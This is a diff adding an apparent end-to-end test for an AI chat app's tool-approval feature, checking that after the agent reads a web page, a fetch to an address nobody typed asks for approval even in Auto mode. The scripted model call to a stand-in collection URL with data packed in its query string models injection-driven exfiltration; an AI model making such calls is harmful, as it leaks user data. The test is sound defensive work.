@@ -75,6 +75,29 @@ test('a reload while it asks: it asks again, and the turn goes on with the answe
   expect(provider.asked).toHaveLength(2)
 })
 
+test('after a page was read, an address that nobody spelled out asks in mode Auto too, in full, and never for always', async ({
+  app,
+  provider,
+}) => {
+  const { first } = prepare(provider)
+  const leak = `https://collect.example/in?data=${'x'.repeat(300)}`
+  provider.willAnswer(
+    { kind: 'calls', calls: [fetchUrl(first)] },
+    { kind: 'calls', calls: [fetchUrl(leak)] },
+    { kind: 'text', text: 'I could not.' },
+  )
+  await app.useProvider(provider)
+  await app.approvals.chooseMode('Auto')
+  await app.chat.send(`Read ${first} please.`)
+  const card = app.approvals.open
+  await expect(card).toContainText('content from outside')
+  await expect(card.getByRole('group', { name: /^Address/ })).toHaveText(leak)
+  expect(await card.getByRole('button').allInnerTexts()).not.toContain('Always allow')
+  await app.approvals.answer('Deny')
+  await app.chat.expectStatus('complete')
+  await expect(app.chat.toolCall('fetch_url').last()).toHaveAttribute('data-state', 'denied')
+})
+
 test('answered in another tab: the turn goes on in its own', async ({ app, context, page, provider }) => {
   const { first, question } = prepare(provider)
   provider.willAnswer({ kind: 'calls', calls: [fetchUrl(first)] }, { kind: 'text', text: 'It says ONE.' })
